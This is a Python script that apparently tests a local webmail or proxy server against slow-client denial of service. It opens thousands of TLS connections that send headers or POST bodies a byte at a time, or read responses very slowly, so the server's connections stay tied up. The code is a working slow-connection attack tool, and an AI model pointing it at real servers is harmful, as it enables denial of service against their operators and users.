"""Thousands of slow clients in one process: heads, bodies and readers that never get to an end.

slow_attackers.py PORT ROOT.pem HEADS BODIES READERS SECONDS [--path PATH] [--sink PATH]

Says "there HEADS BODIES READERS" when all are connected, or --patience is over; then "left HEADS BODIES READERS" every second, and ends
when nobody is left or after SECONDS. An
octet every two seconds each, so that it is not this process' own work that a neighbour feels; besides, it is niced.
"""
import argparse
import os
import resource
import select
import socket
import ssl
import time

EVERY = 2.0
HEAD, BODY, READ = range(3)


class Attacker:
    def __init__(self, kind, address, context, session, options):
        self.kind = kind
        raw = socket.socket()
        if kind == READ:
            raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 1400)
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        raw.settimeout(60)
        raw.connect(address)
        self.sock = context.wrap_socket(raw, server_hostname="mail.example.com", session=session)
        self.session = self.sock.session
        host = b"Host: mail.example.com\r\nAuthorization: Basic YTph\r\n"
        self.sock.sendall({HEAD: b"GET / HTTP/1.1\r\n" + host + b"X: ",
                           BODY: b"POST %s HTTP/1.1\r\n" % options.sink.encode() + host + b"Content-Length: 1000000\r\n\r\n",
                           READ: b"GET %s HTTP/1.1\r\n" % options.path.encode() + host + b"\r\n"}[kind])
        if kind == READ:
            self.sock = socket.socket(fileno=self.sock.detach())  # what comes is taken as it is
        self.sock.setblocking(False)

    def drip(self):
        """False: it is over."""
        try:
            if self.kind == READ:
                return len(self.sock.recv(100)) > 0
            self.sock.send(b"x")
            return True
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return True
        except OSError:
            return False

    def heard(self, event):
        """False: it is over. Something came, or went."""
        if self.kind == READ:
            return not event & (select.POLLERR | select.POLLHUP)
        try:
            return len(self.sock.recv(4096)) > 0  # 408
        except (ssl.SSLWantReadError, BlockingIOError):
            return True
        except OSError:
            return False


def connect(options):
    context = ssl.create_default_context(cafile=options.root)
    context.maximum_version = ssl.TLSVersion.TLSv1_2  # resumed by a ticket that may be used again: a cheap handshake for both
    attackers, session, ends = {}, None, time.monotonic() + options.patience
    for i in range(max(options.heads, options.bodies, options.readers)):
        if time.monotonic() > ends:
            break  # a slow machine: the first should not be gone before the last has come
        for kind, n in (HEAD, options.heads), (BODY, options.bodies), (READ, options.readers):
            if i < n:
                a = Attacker(kind, ("127.0.0.1", options.port), context, session, options)
                session = session or a.session
                attackers[a.sock.fileno()] = a
    return attackers


def count(attackers, word="left"):
    kinds = [a.kind for a in attackers.values()]
    return word + " %d %d %d" % (kinds.count(HEAD), kinds.count(BODY), kinds.count(READ))


def attack(attackers, seconds):
    poll = select.poll()
    for fd, a in attackers.items():
        poll.register(fd, 0 if a.kind == READ else select.POLLIN)

    def gone(fd):
        poll.unregister(fd)
        attackers.pop(fd).sock.close()

    ends, queue, said = time.monotonic() + seconds, [], 0
    while attackers and time.monotonic() < ends:
        for fd, event in poll.poll(50):
            if not attackers[fd].heard(event):
                gone(fd)
        if not queue:
            queue = list(attackers)
            batch = 1 + len(queue) // int(EVERY / 0.05)
        for fd in queue[:batch]:
            if fd in attackers and not attackers[fd].drip():
                gone(fd)
        del queue[:batch]
        if time.monotonic() - said >= 1:
            said = time.monotonic()
            print(count(attackers), flush=True)
        time.sleep(0.05)
    print(count(attackers), flush=True)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("port", type=int)
    p.add_argument("root")
    for name in "heads", "bodies", "readers":
        p.add_argument(name, type=int)
    p.add_argument("seconds", type=float)
    p.add_argument("--patience", type=float, default=25)
    p.add_argument("--path", default="/owa/bytes?size=1000000")
    p.add_argument("--sink", default="/owa/sink")
    options = p.parse_args()
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    os.nice(10)
    attackers = connect(options)
    print(count(attackers, "there"), flush=True)
    attack(attackers, options.seconds)


if __name__ == "__main__":
    main()
